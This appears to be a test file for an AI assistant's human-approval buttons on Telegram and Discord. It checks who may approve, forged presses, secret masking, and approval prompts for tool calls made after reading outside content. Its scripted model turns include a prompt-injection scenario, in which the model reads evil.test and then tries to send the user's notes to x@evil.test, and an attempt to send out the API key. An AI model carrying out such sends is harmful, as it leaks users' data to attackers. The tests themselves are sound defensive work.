import { afterEach, describe, expect, it } from 'vitest';
import { FRIEND_TG, OWNER_DC, OWNER_TG, STRANGER_DC, STRANGER_TG, startChannelRig, type ChannelRig } from '../helpers/channels.js';
import {
  callbackAnswer, click, discordButtons, discordQuestion, lastToolMessage, press, readPageTool, sendCall, sendTool, telegramButtons,
  telegramQuestion, type SentCall,
} from '../helpers/chat-approvals.js';

const EVIL_PAGE = 'https://evil.test/page';
const taintedScript = [
  { toolCalls: [{ name: 'read_page', arguments: { url: EVIL_PAGE } }] },
  sendCall({ to: 'x@evil.test', text: 'your notes' }),
  { content: 'I did not send it.' },
];

describe('Telegram approval buttons: who may answer, and what is shown', () => {
  let rig: ChannelRig;
  let sent: SentCall[];

  const start = async (overrides: Record<string, unknown> = {}) => {
    rig = await startChannelRig({ which: ['telegram'], overrides });
    sent = [];
    rig.app.tools.register(sendTool(sent));
    rig.app.tools.register(readPageTool);
  };

  afterEach(async () => {
    await rig.close();
  });

  const textsTo = (chatId: number): string[] => rig.telegram.messagesTo(chatId).map((message) => message.text ?? '');

  it('ignores a press by another allowed user or a stranger ("not yours"); only the person who asked decides', async () => {
    await start();
    rig.llm.script(sendCall(), { content: 'Sent it.' });
    rig.telegram.sendUserMessage({ chatId: OWNER_TG, userId: OWNER_TG, text: 'tell Anna' });
    const question = await telegramQuestion(rig.telegram, OWNER_TG);

    const byFriend = press(rig.telegram, question, 'Approve', FRIEND_TG);
    const byStranger = press(rig.telegram, question, 'Approve', STRANGER_TG);
    expect(await callbackAnswer(rig.telegram, byFriend)).toMatch(/^Not yours to answer/);
    expect(await callbackAnswer(rig.telegram, byStranger)).toMatch(/^Not yours to answer/);
    expect(sent).toEqual([]);
    expect(telegramButtons(question)).toHaveLength(2);
    expect(question.edits).toEqual([]);

    press(rig.telegram, question, 'Approve', OWNER_TG);
    await rig.telegram.waitFor(() => textsTo(OWNER_TG).includes('Sent it.'));
    expect(sent).toHaveLength(1);
    expect(rig.t.logs.join('')).toContain('approval press by someone else ignored');
  });

  it('a forged button (a guessed request id) approves nothing', async () => {
    await start({ approval: { timeout_s: 1 } });
    rig.llm.script(sendCall(), { content: 'Not sent.' });
    rig.telegram.sendUserMessage({ chatId: OWNER_TG, userId: OWNER_TG, text: 'tell Anna' });
    const question = await telegramQuestion(rig.telegram, OWNER_TG);
    const real = telegramButtons(question)[0]?.callback_data ?? '';
    expect(real).toMatch(/^approval:[A-Za-z0-9_-]{22}:approve$/);
    const forged = rig.telegram.pressButton({ chatId: OWNER_TG, userId: OWNER_TG, messageId: question.message_id, data: 'approval:AAAAAAAAAAAAAAAAAAAAAA:approve' });
    expect(await callbackAnswer(rig.telegram, forged.callbackQueryId)).toBe('This request is no longer open.');
    await rig.telegram.waitFor(() => textsTo(OWNER_TG).includes('Not sent.'));
    expect(sent).toEqual([]);
  });

  it('a second press after the decision changes nothing', async () => {
    await start();
    rig.llm.script(sendCall(), { content: 'Not sent.' });
    rig.telegram.sendUserMessage({ chatId: OWNER_TG, userId: OWNER_TG, text: 'tell Anna' });
    const question = await telegramQuestion(rig.telegram, OWNER_TG);
    const buttons = telegramButtons(question);
    press(rig.telegram, question, 'Deny', OWNER_TG, buttons);
    await rig.telegram.waitFor(() => textsTo(OWNER_TG).includes('Not sent.'));
    const again = press(rig.telegram, question, 'Approve', OWNER_TG, buttons);
    expect(await callbackAnswer(rig.telegram, again)).toBe('This request is no longer open.');
    expect(sent).toEqual([]);
  });

  it('shows the arguments with secrets masked, and never the secret itself', async () => {
    await start();
    const secret = rig.llm.apiKey; // a configured secret (llm.api_key)
    rig.llm.script(sendCall({ to: 'x@example.org', text: `the key is ${secret}`, password: 'hunter2-not-configured' }), { content: 'Not sent.' });
    rig.telegram.sendUserMessage({ chatId: OWNER_TG, userId: OWNER_TG, text: 'leak it' });
    const question = await telegramQuestion(rig.telegram, OWNER_TG);
    expect(question.text).toContain('the key is [REDACTED]');
    expect(question.text).toContain('password: "[MASKED]"');
    press(rig.telegram, question, 'Deny', OWNER_TG);
    await rig.telegram.waitFor(() => textsTo(OWNER_TG).includes('Not sent.'));
    await rig.telegram.waitFor(() => question.edits.length > 0);
    // Everything the bot sent Telegram (question, edit, callback answers) and every log line.
    const wire = JSON.stringify(rig.telegram.requests);
    expect(wire).toContain('[REDACTED]');
    expect(wire).not.toContain(secret);
    expect(wire).not.toContain('hunter2-not-configured');
    expect(rig.t.logs.join('')).not.toContain(secret);
  });

  it('in a tainted turn asks even for an auto-approved tool, and names the outside source', async () => {
    await start({ approval: { auto_approve: ['send_message'] } });
    rig.llm.script(...taintedScript);
    rig.telegram.sendUserMessage({ chatId: OWNER_TG, userId: OWNER_TG, text: 'read this page' });
    const question = await telegramQuestion(rig.telegram, OWNER_TG);
    expect(question.text).toContain(`holds outside content (${EVIL_PAGE})`);
    press(rig.telegram, question, 'Deny', OWNER_TG);
    await rig.telegram.waitFor(() => textsTo(OWNER_TG).includes('I did not send it.'));
    expect(sent).toEqual([]);
    expect(lastToolMessage(rig.llm)).toMatch(/not approved: the person said no/);
  });
});

describe('Discord approval buttons: who may answer, and what is shown', () => {
  let rig: ChannelRig;
  let sent: SentCall[];

  const start = async (overrides: Record<string, unknown> = {}) => {
    rig = await startChannelRig({ which: ['discord'], overrides });
    sent = [];
    rig.app.tools.register(sendTool(sent));
    rig.app.tools.register(readPageTool);
  };

  afterEach(async () => {
    await rig.close();
  });

  const contents = (channelId: string): string[] => rig.discord.messagesIn(channelId).map((message) => message.content);

  it('answers a click by someone else with a private "not yours" and keeps the question open', async () => {
    await start();
    rig.llm.script(sendCall(), { content: 'Sent it.' });
    const { channelId } = rig.discord.sendUserMessage({ userId: OWNER_DC, username: 'owner', content: 'tell Anna', dm: true });
    const question = await discordQuestion(rig.discord, channelId);
    const interactionId = click(rig.discord, question, 'Approve', STRANGER_DC, 'mallory');
    const response = await rig.discord.waitFor(() => rig.discord.interactionResponses.find((candidate) => candidate.interactionId === interactionId));
    expect(response.type).toBe(4); // CHANNEL_MESSAGE_WITH_SOURCE
    expect(response.data?.['content']).toMatch(/^Not yours to answer/);
    expect(Number(response.data?.['flags']) & 64).toBe(64); // ephemeral: only the presser sees it
    expect(sent).toEqual([]);
    expect(discordButtons(question)).toHaveLength(2);

    click(rig.discord, question, 'Approve', OWNER_DC);
    await rig.discord.waitFor(() => contents(channelId).includes('Sent it.'));
    expect(sent).toHaveLength(1);
    expect(question.content).toMatch(/Approved by owner\.$/);
  });

  it('shows the arguments with secrets masked, and never the secret itself', async () => {
    await start();
    const secret = rig.llm.apiKey;
    rig.llm.script(sendCall({ to: 'x@example.org', text: `the key is ${secret}`, password: 'hunter2-not-configured' }), { content: 'Not sent.' });
    const { channelId } = rig.discord.sendUserMessage({ userId: OWNER_DC, username: 'owner', content: 'leak it', dm: true });
    const question = await discordQuestion(rig.discord, channelId);
    expect(question.content).toContain('the key is [REDACTED]');
    expect(question.content).toContain('password: "[MASKED]"');
    click(rig.discord, question, 'Deny', OWNER_DC);
    await rig.discord.waitFor(() => contents(channelId).includes('Not sent.'));
    const wire = JSON.stringify(rig.discord.requests) + JSON.stringify(rig.discord.interactionResponses);
    expect(wire).not.toContain(secret);
    expect(wire).not.toContain('hunter2-not-configured');
    expect(rig.t.logs.join('')).not.toContain(secret);
  });

  it('in a tainted turn names the outside source, and a denial sends nothing', async () => {
    await start({ approval: { auto_approve: ['send_message'] } });
    rig.llm.script(...taintedScript);
    const { channelId } = rig.discord.sendUserMessage({ userId: OWNER_DC, username: 'owner', content: 'read this page', dm: true });
    const question = await discordQuestion(rig.discord, channelId);
    expect(question.content).toContain(`holds outside content (${EVIL_PAGE})`);
    click(rig.discord, question, 'Deny', OWNER_DC);
    await rig.discord.waitFor(() => contents(channelId).includes('I did not send it.'));
    expect(sent).toEqual([]);
  });
});
